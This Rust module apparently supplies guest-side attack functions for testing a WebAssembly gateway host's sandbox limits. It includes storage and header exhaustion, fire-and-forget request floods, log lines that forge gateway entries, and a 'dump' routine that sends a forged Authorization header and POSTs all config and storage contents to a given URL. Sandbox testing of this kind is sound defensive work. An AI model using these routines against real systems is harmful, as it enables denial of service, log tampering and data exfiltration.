//! Attacks on what the host holds for a guest: storage, log, returned sizes,
//! outgoing HTTP and wasi resources. Each returns a short report of how far it got,
//! so a test can tell the host's bound from the guest giving up.

use kmsgw_guest_sdk::bindings::wasi::clocks::monotonic_clock;
use kmsgw_guest_sdk::bindings::wasi::http::outgoing_handler;
use kmsgw_guest_sdk::bindings::wasi::http::types::{
    Fields, Method, OutgoingBody, OutgoingRequest, Scheme,
};
use kmsgw_guest_sdk::bindings::wasi::io::streams::StreamError;
use kmsgw_guest_sdk::http::Request;
use kmsgw_guest_sdk::{Error, log, storage};

/// Writes `count` values of 64 KiB under new keys, until the host refuses one.
pub fn store(count: usize) -> Error {
    let value = vec![0x5a; 64 * 1024];
    for i in 0..count {
        if let Err(e) = storage::set(&format!("junk/{i:08}"), &value) {
            return Error::InvalidInput(format!("stored {i} values, then: {e:?}"));
        }
    }
    Error::InvalidInput(format!("stored {count} values"))
}

/// Logs `count` lines of `size` bytes, each starting with a forged gateway line.
pub fn log(count: usize, size: usize) -> Error {
    let forged = "innocent\n2026-01-01T00:00:00.000000Z  INFO kmsgw: FORGED line from a guest\r\n";
    let line = format!("{forged}{}", "L".repeat(size.saturating_sub(forged.len())));
    for _ in 0..count {
        log::warn(&line);
    }
    Error::InvalidInput(format!("logged {count} lines"))
}

/// `METHOD URL` as the parts of an outgoing request, with empty headers.
fn request(method: Method, url: &str) -> Result<OutgoingRequest, Error> {
    let (scheme, rest) = url
        .split_once("://")
        .ok_or_else(|| Error::InvalidInput(format!("`{url}` is not a URL")))?;
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_method(&method);
    let _ = request.set_scheme(Some(&if scheme == "https" {
        Scheme::Https
    } else {
        Scheme::Http
    }));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some(if path.is_empty() { "/" } else { path }));
    Ok(request)
}

/// POSTs a body of `mib` MiB to `url`, streamed in 64 KiB writes.
pub fn upload(url: &str, mib: usize) -> Error {
    let request = match request(Method::Post, url) {
        Ok(r) => r,
        Err(e) => return e,
    };
    let body = request.body().expect("a fresh request has a body");
    let pending = match outgoing_handler::handle(request, None) {
        Ok(p) => p,
        Err(code) => return Error::Internal(format!("upload refused at once: {code:?}")),
    };
    let stream = body.write().expect("a fresh body has a stream");
    let chunk = vec![0x42; 64 * 1024];
    let mut sent = 0usize;
    let mut failure = None;
    while sent < mib * 1024 * 1024 {
        if let Err(e) = stream.blocking_write_and_flush(&chunk[..4096]) {
            failure = Some(match e {
                StreamError::LastOperationFailed(e) => e.to_debug_string(),
                StreamError::Closed => "closed".into(),
            });
            break;
        }
        sent += 4096;
    }
    drop(stream);
    let finished = OutgoingBody::finish(body, None);
    pending.subscribe().block();
    let answer = match pending.get() {
        Some(Ok(Ok(response))) => format!("status {}", response.status()),
        Some(Ok(Err(code))) => format!("{code:?}"),
        other => format!("{other:?}"),
    };
    Error::Internal(format!(
        "uploaded {} KiB (write error: {failure:?}; finish: {finished:?}); answer: {answer}",
        sent / 1024
    ))
}

/// GETs `url` and reads the whole body.
pub fn download(url: &str) -> Error {
    match Request::get(url).send() {
        Ok(response) => Error::Internal(format!(
            "downloaded {} bytes, status {}",
            response.body.len(),
            response.status
        )),
        Err(e) => Error::Internal(format!("download failed: {e:?}")),
    }
}

/// Makes `count` header sets of 100 KiB each (8 KiB where the host refuses that)
/// and never drops them.
pub fn hoard(count: usize) -> Error {
    let (big, small) = (vec![b'v'; 100 * 1024], vec![b'v'; 8 * 1024]);
    for i in 0..count {
        let fields = Fields::new();
        if fields.append("x-hoard", &big).is_err()
            && let Err(e) = fields.append("x-hoard", &small)
        {
            return Error::Internal(format!("hoarded {i} header sets, then: {e:?}"));
        }
        std::mem::forget(fields);
    }
    Error::Internal(format!("hoarded {count} header sets"))
}

/// Starts `count` GETs of `url`, never waits for them, and returns 300 ms later.
pub fn fan_out(url: &str, count: usize) -> Error {
    for i in 0..count {
        let request = match request(Method::Get, url) {
            Ok(r) => r,
            Err(e) => return e,
        };
        match outgoing_handler::handle(request, None) {
            Ok(pending) => std::mem::forget(pending),
            Err(code) => return Error::Internal(format!("started {i} requests, then: {code:?}")),
        }
    }
    monotonic_clock::subscribe_duration(300_000_000).block();
    Error::Internal(format!("started {count} requests"))
}

/// Sends its own `Authorization` to `url`, then POSTs to `url` everything the guest
/// can see: `config`, every storage entry, the headers it sent, and the status,
/// headers and body of the answer.
pub fn dump(config: &str, url: &str) -> Error {
    let forged = [("authorization", "Bearer forged-by-the-guest")];
    let mut seen = format!("config: {config}\n");
    match storage::list("") {
        Ok(keys) => {
            for key in keys {
                let value = storage::get(&key).ok().flatten().unwrap_or_default();
                seen.push_str(&format!(
                    "storage {key}: {}\n",
                    String::from_utf8_lossy(&value)
                ));
            }
        }
        Err(e) => seen.push_str(&format!("storage: {e:?}\n")),
    }
    let mut probe = Request::get(url);
    for (name, value) in forged {
        seen.push_str(&format!("sent {name}: {value}\n"));
        probe = probe.header(name, value);
    }
    match probe.send() {
        Ok(response) => {
            seen.push_str(&format!("answer {}\n", response.status));
            for (name, value) in &response.headers {
                seen.push_str(&format!(
                    "answer {name}: {}\n",
                    String::from_utf8_lossy(value)
                ));
            }
            seen.push_str(&format!(
                "answer body: {}\n",
                String::from_utf8_lossy(&response.body)
            ));
        }
        Err(e) => seen.push_str(&format!("answer: {e:?}\n")),
    }
    let size = seen.len();
    match Request::post(url)
        .body("text/plain", seen.into_bytes())
        .send()
    {
        Ok(_) => Error::InvalidInput(format!("dumped {size} bytes")),
        Err(e) => Error::Internal(format!("dump not delivered: {e:?}")),
    }
}
